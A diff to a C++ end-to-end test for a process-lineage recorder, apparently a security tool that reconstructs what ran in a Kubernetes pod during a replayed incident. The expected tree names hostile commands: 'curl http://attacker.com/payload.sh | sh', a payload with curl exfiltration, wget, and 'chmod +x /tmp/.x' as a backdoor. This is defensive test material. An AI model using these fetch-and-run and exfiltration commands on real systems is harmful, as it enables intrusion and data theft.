@@ -1,17 +1,25 @@
 // The built-in demo (scripts/demo.sh) as an end-to-end test: the incident is
 // replayed in a fake pod for real, then what both journals say about the pod
 // is checked node by node through `lineage reconstruct --format json`, and
-// the node is checked for anything the demo left behind.
+// the node is checked for anything the demo left behind. Each run's pod has
+// a UID and a container ID of its own, which the demo prints: the checks
+// look for those, so that real pods on the machine, or what an earlier run
+// left, are none of this run's business.
 #include <catch2/catch.hpp>
 
+#include <signal.h>
 #include <sqlite3.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #include <algorithm>
 #include <chrono>
 #include <filesystem>
+#include <regex>
 #include <set>
+#include <sstream>
 #include <string>
+#include <thread>
 #include <vector>
 
 #include <nlohmann/json.hpp>
@@ -30,10 +38,34 @@ using Args = std::vector<std::string>;
 // The fake pod, as scripts/demo.sh builds it.
 constexpr const char* kPodName = "my-app-6d4f9-xk2p1";
 constexpr const char* kPodNamespace = "production";
-constexpr const char* kPodUid = "4c6a1b2e-8d3f-4e5a-9b7c-1d2e3f4a5b6c";
-constexpr const char* kPodUidUnderscores = "4c6a1b2e_8d3f_4e5a_9b7c_1d2e3f4a5b6c";
-constexpr const char* kContainerId = "d78c990c760b4fc9fa8befc75383ddf9810045e03ecd9eed7a28641dd1a97097";
-constexpr const char* kCgroupPrefix = "/kubepods.slice/";
+
+// What the demo made in this run, from its "demo: pod uid ..." line.
+struct DemoPod {
+    std::string uid;        // 4c6a1b2e-8d3f-4e5a-9b7c-<12 new hex digits>
+    std::string container;  // d78c990c760b<52 new hex digits>
+    std::string cgroup;     // the container's cgroup, below the cgroup2 mount
+    std::string uid_underscores() const {
+        std::string u = uid;
+        std::replace(u.begin(), u.end(), '-', '_');
+        return u;
+    }
+};
+
+DemoPod demo_pod(const std::string& demo_stderr) {
+    static const std::regex line(R"(demo: pod uid ([0-9a-f-]{36}) container ([0-9a-f]{64}) cgroup (/\S+)\n)");
+    std::smatch m;
+    INFO("the demo's stderr:\n" << demo_stderr);
+    REQUIRE(std::regex_search(demo_stderr, m, line));
+    DemoPod pod{m[1], m[2], m[3]};
+    CHECK(pod.uid.rfind("4c6a1b2e-8d3f-4e5a-9b7c-", 0) == 0);
+    CHECK(pod.container.rfind("d78c990c760b", 0) == 0);
+    return pod;
+}
+
+// A cgroup path under either kubepods root: what --kube-only records.
+bool under_kubepods(const std::string& path) {
+    return path.rfind("/kubepods.slice/", 0) == 0 || path.rfind("/kubepods/", 0) == 0;
+}
 
 std::string demo_script() {
     return std::string(LINEAGE_SOURCE_DIR) + "/scripts/demo.sh";
@@ -72,16 +104,16 @@ struct Expected {
     bool connects = false;    // one established TCP connection to attacker.com
 };
 
-void check_pod(const json& node) {
+void check_pod(const json& node, const DemoPod& pod) {
     REQUIRE(node["pod"].is_object());
     CHECK(node["pod"]["name"] == kPodName);
     CHECK(node["pod"]["namespace"] == kPodNamespace);
-    CHECK(node["pod"]["uid"] == kPodUid);
-    CHECK(node["pod"]["container_id"] == kContainerId);
+    CHECK(node["pod"]["uid"] == pod.uid);
+    CHECK(node["pod"]["container_id"] == pod.container);
 }
 
 // What every process of the pod has in common, and what `want` says of it.
-void check_node(const json& node, const json& parent, const Expected& want, int port) {
+void check_node(const json& node, const json& parent, const Expected& want, int port, const DemoPod& pod) {
     INFO("process " << node["args"].dump() << " (pid " << node["pid"] << ")");
     CHECK(node["args"] == json(want.args));
     REQUIRE(node["binary"].is_string());
@@ -95,7 +127,7 @@ void check_node(const json& node, const json& parent, const Expected& want, int 
     CHECK(node["parent_key"] == parent["key"]);
     CHECK(node["ppid"] == parent["pid"]);
     CHECK(node["start_time"].get<std::string>() >= parent["start_time"].get<std::string>());
-    check_pod(node);
+    check_pod(node, pod);
     CHECK(node["matched"] == true);
     CHECK(node["in_window"] == true);
     // A PID of the pod's own PID namespace: small, and not the host's.
@@ -143,7 +175,7 @@ void collect_pids(const json& node, std::set<int64_t>& out) {
 
 // The whole incident: my-app -> sh -c "curl .../payload.sh | sh" -> curl and
 // the payload's sh -> cat, curl (exfil), wget, chmod.
-void check_incident(const json& doc, int port, bool kube_only) {
+void check_incident(const json& doc, int port, bool kube_only, const DemoPod& pod) {
     const std::string attacker = port == 80 ? "http://attacker.com" : "http://attacker.com:" + std::to_string(port);
     INFO((kube_only ? "kube-only.db" : "journal.db") << ":\n" << doc.dump(2));
 
@@ -166,7 +198,7 @@ void check_incident(const json& doc, int port, bool kube_only) {
     CHECK(app["comm"] == "my-app");
     CHECK(app["nspid"] == 1);
     CHECK(app["nspid"] != app["pid"]);
-    check_pod(app);
+    check_pod(app, pod);
     CHECK(app["matched"] == true);
     REQUIRE(app["exit"].is_object());
     CHECK(app["exit"]["signal"] == 9);
@@ -194,16 +226,16 @@ void check_incident(const json& doc, int port, bool kube_only) {
     // The injected command.
     REQUIRE(app["children"].size() == 1);
     const json& injected = app["children"][0];
-    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port);
+    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port, pod);
 
     // Its pipeline: curl fetching the payload, sh running it.
     REQUIRE(injected["children"].size() == 2);
     check_start_order(injected["children"]);
     const json& fetch = injected["children"][0];
     const json& reader = injected["children"][1];
-    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port);
+    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port, pod);
     CHECK(fetch["children"].empty());
-    check_node(reader, injected, {{"sh"}, "sh"}, port);
+    check_node(reader, injected, {{"sh"}, "sh"}, port, pod);
 
     // The payload, line by line.
     const std::vector<Expected> payload = {
@@ -215,7 +247,7 @@ void check_incident(const json& doc, int port, bool kube_only) {
     REQUIRE(reader["children"].size() == payload.size());
     check_start_order(reader["children"]);
     for (size_t i = 0; i < payload.size(); ++i) {
-        check_node(reader["children"][i], reader, payload[i], port);
+        check_node(reader["children"][i], reader, payload[i], port, pod);
         CHECK(reader["children"][i]["children"].empty());
     }
 }
@@ -247,8 +279,8 @@ std::string cgroup2_mount() {
     return mount;
 }
 
-// Cgroups of the demo still under the cgroup2 mount.
-std::vector<std::string> leftover_cgroups() {
+// Cgroups of this run's pod still under the cgroup2 mount.
+std::vector<std::string> leftover_cgroups(const DemoPod& pod) {
     std::vector<std::string> out;
     std::error_code ec;
     fs::recursive_directory_iterator it(cgroup2_mount(), fs::directory_options::skip_permission_denied, ec);
@@ -256,17 +288,19 @@ std::vector<std::string> leftover_cgroups() {
         std::error_code type_ec;
         if (!it->is_directory(type_ec)) continue;
         std::string name = it->path().filename().string();
-        if (name.find("kubepods") != std::string::npos || name.find(kPodUidUnderscores) != std::string::npos ||
-            name.find(kContainerId) != std::string::npos) {
+        if (name.find(pod.uid) != std::string::npos || name.find(pod.uid_underscores()) != std::string::npos ||
+            name.find(pod.container) != std::string::npos) {
             out.push_back(it->path().string());
         }
     }
     return out;
 }
 
-// Processes (other than this one) whose command line mentions `needle`, or
-// that are called my-app.
-std::vector<std::string> leftover_processes(const std::string& needle) {
+// Processes (other than this one) of this run: their command line names its
+// work directory (the listener, the recorders), or their mounts do (the
+// pod's processes, whose mount namespace has the work directory's files
+// bound in).
+std::vector<std::string> leftover_processes(const std::string& workdir) {
     std::vector<std::string> out;
     std::error_code ec;
     for (fs::directory_iterator it("/proc", ec); !ec && it != fs::directory_iterator(); it.increment(ec)) {
@@ -275,15 +309,16 @@ std::vector<std::string> leftover_processes(const std::string& needle) {
         std::string cmdline = read_file("/proc/" + pid + "/cmdline");
         std::string comm = read_file("/proc/" + pid + "/comm");
         std::replace(cmdline.begin(), cmdline.end(), '\0', ' ');
-        if (cmdline.find(needle) != std::string::npos || comm == "my-app\n") {
+        if (cmdline.find(workdir) != std::string::npos ||
+            read_file("/proc/" + pid + "/mountinfo").find(workdir) != std::string::npos) {
             out.push_back(pid + " " + comm.substr(0, comm.size() ? comm.size() - 1 : 0) + ": " + cmdline);
         }
     }
     return out;
 }
 
-void check_nothing_left(const std::string& workdir) {
-    CHECK(leftover_cgroups().empty());
+void check_nothing_left(const std::string& workdir, const DemoPod& pod) {
+    CHECK(leftover_cgroups(pod).empty());
     INFO("processes of the demo still running:\n"
          << [&] {
                 std::string s;
@@ -298,10 +333,12 @@ std::string describe(const RunResult& r) {
            "\nstderr:\n" + r.err;
 }
 
-}  // namespace
-
-TEST_CASE("demo: the incident replayed in a fake pod") {
-    REQUIRE(leftover_cgroups().empty());  // nothing of an earlier run in the way
+// Runs the demo (--keep) and checks the whole of it: the tree the user sees,
+// what both journals say about the pod, that nothing of it is left. Other
+// pods may run on the machine: their rows are in the --kube-only journal
+// too, and are checked only for being pods' rows. Returns how many exec rows
+// of other pods it saw there.
+size_t run_and_check_demo() {
     // The pod's files and mounts must stay inside its mount namespace.
     const std::string hosts_before = read_file("/etc/hosts");
     const bool had_backdoor = fs::exists("/tmp/.x");
@@ -314,13 +351,14 @@ TEST_CASE("demo: the incident replayed in a fake pod") {
     INFO("scripts/demo.sh took " << took.count() << " ms: " << describe(demo));
     REQUIRE(!demo.timed_out);
     REQUIRE(demo.exit_code == 0);
+    const DemoPod pod = demo_pod(demo.err);
     CHECK(took < std::chrono::seconds(30));
     // The user sees the tree.
     CHECK(demo.out.find("pod production/my-app-6d4f9-xk2p1") != std::string::npos);
     CHECK(demo.out.find("chmod +x /tmp/.x") != std::string::npos);
 
     // Gone, although the work directory was kept.
-    check_nothing_left(workdir);
+    check_nothing_left(workdir, pod);
     CHECK(read_file("/etc/hosts") == hosts_before);
     if (!had_backdoor) CHECK(!fs::exists("/tmp/.x"));
     const std::string mounts = read_file("/proc/self/mountinfo");
@@ -330,11 +368,12 @@ TEST_CASE("demo: the incident replayed in a fake pod") {
     const int port = std::stoi(read_file(workdir + "/attacker.port"));
     const json full = reconstruct_json(workdir + "/journal.db");
     const json kube = reconstruct_json(workdir + "/kube-only.db");
+    size_t others = 0;
 
     // One run of the demo for all of the checks below (a SECTION would rerun it).
     {
         INFO("the whole node's journal has the pod's complete tree");
-        check_incident(full, port, /*kube_only=*/false);
+        check_incident(full, port, /*kube_only=*/false, pod);
         // The demo left the same document for the user.
         json kept;
         REQUIRE_NOTHROW(kept = json::parse(read_file(workdir + "/incident.json")));
@@ -343,7 +382,7 @@ TEST_CASE("demo: the incident replayed in a fake pod") {
 
     {
         INFO("the --kube-only journal has the same tree");
-        check_incident(kube, port, /*kube_only=*/true);
+        check_incident(kube, port, /*kube_only=*/true, pod);
         std::vector<std::string> a, b;
         for (const auto& t : full["trees"]) flatten(t, a);
         for (const auto& t : kube["trees"]) flatten(t, b);
@@ -351,29 +390,40 @@ TEST_CASE("demo: the incident replayed in a fake pod") {
     }
 
     {
-        INFO("the --kube-only journal holds no process outside the pod");
+        INFO("the --kube-only journal holds pods only: the demo's, and any other on the machine");
         std::set<int64_t> pod_pids;
         for (const auto& t : kube["trees"]) collect_pids(t, pod_pids);
         REQUIRE(pod_pids.size() == 8);
 
         Journal db(workdir + "/kube-only.db");
         Journal whole(workdir + "/journal.db");
-        // Every exec happened inside the pod's cgroups.
-        auto execs = rows(db, "SELECT tgid, cgroup_path FROM exec");
-        CHECK(execs.size() == 8);
-        for (const auto& row : execs) {
-            INFO("exec row of pid " << row.at(0));
-            CHECK(row.at(1).rfind(std::string(kCgroupPrefix) + "kubepods-burstable.slice/kubepods-burstable-pod" +
-                                      kPodUidUnderscores + ".slice/cri-containerd-" + kContainerId + ".scope",
-                                  0) == 0);
+        // Every exec of the pod happened inside its container's cgroup;
+        // every other exec, inside another pod's.
+        size_t ours = 0;
+        for (const auto& row : rows(db, "SELECT tgid, cgroup_path FROM exec")) {
+            INFO("exec row of pid " << row.at(0) << " in " << row.at(1));
+            if (row.at(1) == pod.cgroup) {
+                ++ours;
+                CHECK(pod_pids.count(std::stoll(row.at(0))) == 1);
+            } else {
+                ++others;
+                CHECK(under_kubepods(row.at(1)));
+                CHECK(row.at(1).find(pod.uid_underscores()) == std::string::npos);
+                CHECK(row.at(1).find(pod.uid) == std::string::npos);
+            }
         }
-        // Every process in an event row is one of the pod's.
-        for (const char* sql : {"SELECT tgid FROM exec", "SELECT child_tgid FROM fork", "SELECT parent_tgid FROM fork",
-                                "SELECT tgid FROM exit", "SELECT tgid FROM connect"}) {
-            INFO(sql);
-            for (int64_t pid : ints(db, sql)) {
-                INFO("pid " << pid);
-                CHECK(pod_pids.count(pid) == 1);
+        CHECK(ours == 8);
+        // With no other pod about, every process in an event row is one of
+        // the pod's.
+        if (others == 0) {
+            for (const char* sql :
+                 {"SELECT tgid FROM exec", "SELECT child_tgid FROM fork", "SELECT parent_tgid FROM fork",
+                  "SELECT tgid FROM exit", "SELECT tgid FROM connect"}) {
+                INFO(sql);
+                for (int64_t pid : ints(db, sql)) {
+                    INFO("pid " << pid);
+                    CHECK(pod_pids.count(pid) == 1);
+                }
             }
         }
         // Host noise the whole-node recorder saw is absent: this test, the
@@ -395,20 +445,87 @@ TEST_CASE("demo: the incident replayed in a fake pod") {
         }
         // The whole-node journal did see the host side, e.g. the unshare
         // that started the pod: the filter is what keeps it out.
-        CHECK(
-            !rows(whole, "SELECT tgid FROM exec WHERE CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods.slice/%'").empty());
+        CHECK(!rows(whole,
+                    "SELECT tgid FROM exec WHERE CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods.slice/%' "
+                    "AND CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods/%'")
+                   .empty());
         // The /proc snapshot taken at start keeps only processes in the
-        // recorded subtree too (the pod started later: there are none).
+        // recorded subtrees too (the demo's pod started later).
         for (const auto& row : rows(db, "SELECT tgid, cgroup_path FROM snapshot")) {
             INFO("snapshot row of pid " << row.at(0));
-            CHECK(row.at(1).rfind(kCgroupPrefix, 0) == 0);
+            CHECK(under_kubepods(row.at(1)));
+            CHECK(row.at(1).find(pod.container) == std::string::npos);
         }
     }
+    return others;
+}
+
+// Stands in for a kubelet with the systemd driver and one of its pods, a
+// busy one (an exec every 50 ms), unless the machine has a real kubelet's
+// tree already. Made by this test's own names, and removed with what it
+// made; the kubelet's QoS level is shared, and left if it was there.
+class KubeletStandIn {
+public:
+    KubeletStandIn() {
+        const std::string mount = cgroup2_mount();
+        const std::string qos = mount + "/kubepods.slice/kubepods-besteffort.slice";
+        if (fs::is_directory(qos) || fs::is_directory(mount + "/kubepods/besteffort")) return;  // a real node
+        const std::string uid = "e2e00000-0000-4000-8000-" + std::string(12 - std::to_string(getpid()).size(), '0') +
+                                std::to_string(getpid());
+        std::string u = uid;
+        std::replace(u.begin(), u.end(), '-', '_');
+        for (const std::string& d :
+             {mount + "/kubepods.slice", qos, qos + "/kubepods-besteffort-pod" + u + ".slice",
+              qos + "/kubepods-besteffort-pod" + u + ".slice/cri-containerd-" + std::string(64, 'e') + ".scope"}) {
+            if (fs::is_directory(d)) continue;
+            REQUIRE(mkdir(d.c_str(), 0755) == 0);
+            made_.push_back(d);
+        }
+        // Not a child of this test, as a pod's processes are not: the test's
+        // PID must not be anyone's parent in the journal.
+        const std::string leaf = made_.back();
+        RunResult r = run_shell("setsid /bin/sh -c 'echo $$ > " + leaf + "/cgroup.procs && " +
+                                "while :; do /bin/true; sleep 0.05; done' </dev/null >/dev/null 2>&1 &");
+        REQUIRE(r.exit_code == 0);
+        for (int i = 0; i < 100 && read_file(leaf + "/cgroup.procs").empty(); ++i) {
+            std::this_thread::sleep_for(std::chrono::milliseconds(20));
+        }
+        REQUIRE(!read_file(leaf + "/cgroup.procs").empty());
+    }
+    ~KubeletStandIn() {
+        if (!made_.empty()) {
+            // Everything in the stand-in pod's cgroup is this test's.
+            const std::string leaf = made_.back();
+            for (int i = 0; i < 100 && !read_file(leaf + "/cgroup.procs").empty(); ++i) {
+                std::istringstream pids(read_file(leaf + "/cgroup.procs"));
+                for (pid_t pid; pids >> pid;) kill(pid, SIGKILL);
+                std::this_thread::sleep_for(std::chrono::milliseconds(20));
+            }
+        }
+        for (auto it = made_.rbegin(); it != made_.rend(); ++it) rmdir(it->c_str());
+    }
+    KubeletStandIn(const KubeletStandIn&) = delete;
+    KubeletStandIn& operator=(const KubeletStandIn&) = delete;
+
+private:
+    std::vector<std::string> made_;
+};
+
+}  // namespace
+
+TEST_CASE("demo: the incident replayed in a fake pod") {
+    (void)run_and_check_demo();
+}
+
+TEST_CASE("demo: beside a kubelet's pods, it takes the other cgroup layout and sees only its own pod") {
+    // A real node has a kubelet's kubepods tree, whose pods' processes
+    // --kube-only records too; the demo must leave the kubelet's tree alone.
+    const KubeletStandIn kubelet;
+    // The stand-in's pod, or a real node's, ran execs while the demo recorded.
+    CHECK(run_and_check_demo() > 0);
 }
 
 TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
-    REQUIRE(leftover_cgroups().empty());
-
     SECTION("a successful run without --keep removes its work directory") {
         const TempDir dir;  // the demo removes it
         const std::string& workdir = dir.path();
@@ -417,7 +534,7 @@ TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
         REQUIRE(!demo.timed_out);
         CHECK(demo.exit_code == 0);
         CHECK(!fs::exists(workdir));
-        check_nothing_left(workdir);
+        check_nothing_left(workdir, demo_pod(demo.err));
     }
 
     SECTION("a run whose recorder fails cleans up the pod's cgroups and the listener") {
@@ -431,6 +548,6 @@ TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
         CHECK(demo.exit_code == 1);
         CHECK(demo.err.find("lineage record exited before it was ready") != std::string::npos);
         CHECK(!fs::exists(workdir));
-        check_nothing_left(workdir);
+        check_nothing_left(workdir, demo_pod(demo.err));
     }
 }
